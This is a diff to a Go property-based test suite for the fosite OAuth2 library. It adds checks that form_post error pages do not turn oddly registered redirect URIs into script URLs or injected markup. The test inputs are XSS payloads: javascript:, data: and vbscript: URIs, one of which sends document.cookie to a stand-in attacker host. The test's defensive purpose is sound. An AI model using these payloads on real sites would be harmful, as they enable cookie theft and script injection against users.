@@ -124,6 +124,7 @@ func TestC20_ErrorWriters(t *testing.T) {
 		rw := httptest.NewRecorder()
 		ctx := context.Background()
 		var ar fosite.AuthorizeRequester
+		target := redirectURI
 		switch writer {
 		case "access":
 			w.P.WriteAccessError(ctx, rw, nil, err)
@@ -135,10 +136,22 @@ func TestC20_ErrorWriters(t *testing.T) {
 			w.P.WriteAuthorizeError(ctx, rw, ar, err)
 		case "authorize-query", "authorize-fragment", "authorize-form_post":
 			mode := strings.TrimPrefix(writer, "authorize-")
-			q := url.Values{"client_id": {"c20"}, "response_type": {"code"}, "redirect_uri": {redirectURI}, "state": {state}, "response_mode": {mode}, "scope": {"a"}}
+			if mode == "form_post" && rapid.IntRange(0, 2).Draw(rt, "oddRegisteredTarget") == 0 {
+				// the registered redirect URI is the client's choice (self-service registration): the page that posts to
+				// it is a document on the server's origin, whatever was registered
+				target = rapid.SampledFrom([]string{"javascript:alert(document.domain)//", "JavaScript:fetch('https://evil.example/'+document.cookie)//", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)//", "https://rp.example/cb?x=\"><script>alert(1)</script>", "com.example.app:/cb"}).Draw(rt, "registeredTarget")
+				cl.RedirectURIs = []string{target}
+				h.Label("form_post-to-odd-registered-target")
+			}
+			q := url.Values{"client_id": {"c20"}, "response_type": {"code"}, "redirect_uri": {target}, "state": {state}, "response_mode": {mode}, "scope": {"a"}}
 			r := httptest.NewRequest("GET", "https://as.example/oauth2/auth?"+q.Encode(), nil)
 			var aerr error
 			ar, aerr = w.P.NewAuthorizeRequest(ctx, r)
+			if aerr != nil && target != redirectURI {
+				// the library may of course refuse such a registration's requests outright
+				rt.Logf("request for the registered target %q refused: %v", target, aerr)
+				return
+			}
 			if aerr != nil {
 				rt.Fatalf("VERIF-INFRA: valid authorize request refused: %v", aerr)
 			}
@@ -274,13 +287,30 @@ func TestC20_ErrorWriters(t *testing.T) {
 				}
 			}
 		case "authorize-form_post":
+			if target != redirectURI && strings.HasPrefix(rw.Header().Get("Content-Type"), "application/json") {
+				// the library does not consider the target usable and shows the error to the user agent directly
+				h.Label("odd-registered-target-answered-directly")
+				break
+			}
 			counts := h.CountHTMLElements(rw.Body.Bytes())
 			action, vals := h.ParseFormPost(rw.Body.Bytes())
 			if counts["form"] != 1 || counts["script"] != 0 || counts["img"] != 0 || counts["b"] != 0 {
 				fail("C20/html-injection", "reflected text created markup: element counts %v", counts)
 			}
-			if action != redirectURI {
+			if target == redirectURI && action != redirectURI {
 				fail("C20/html-injection", "form action %q, want %q", action, redirectURI)
+			}
+			if target != redirectURI {
+				// whatever the page does with such a target, it does not hand it to the browser as a script or document
+				a := strings.ToLower(strings.TrimLeft(action, " \t\r\n\x00"))
+				for _, sch := range []string{"javascript:", "data:", "vbscript:"} {
+					if strings.HasPrefix(a, sch) {
+						fail("C20/form-action-is-script-url", "the form_post page posts to %q (registered target %q)", action, target)
+					}
+				}
+				if strings.HasPrefix(target, "https://") && !strings.HasPrefix(action, "https://rp.example/cb?x=") {
+					fail("C20/html-injection", "form action %q, want an encoding of %q", action, target)
+				}
 			}
 			checkFields(func(k string) string { return normHTML(vals.Get(k)) }, normHTML)
 			if normHTML(vals.Get("state")) != normHTML(state) {
@@ -618,7 +648,15 @@ func TestC20_StorageSecrets(t *testing.T) {
 		h.ClockReset()
 		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
 		jwtAccess := rapid.Bool().Draw(rt, "jwtAccess")
-		w := h.NewWorld(h.Spec{Store: store, JWTAccess: jwtAccess, RefreshScopes: []string{}})
+		// the operator may name the form values the code flow keeps with a stored request (the built-in list, repeated
+		// or extended): that list is about the authorization request, where there is no code yet
+		keep := rapid.SampledFrom([][]string{nil, nil, {"code", "redirect_uri"}, {"redirect_uri", "code", "resource"}}).Draw(rt, "sanitationWhiteList")
+		w := h.NewWorld(h.Spec{Store: store, JWTAccess: jwtAccess, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
+			c.SanitationWhiteList = keep
+		}})
+		if keep != nil {
+			h.Label("B/operator-sanitation-whitelist")
+		}
 		tag := rapid.StringMatching("[a-z]{8}").Draw(rt, "tag")
 		secrets := map[string]string{}
 		clientSecret := "CLIENTSECRET-" + tag
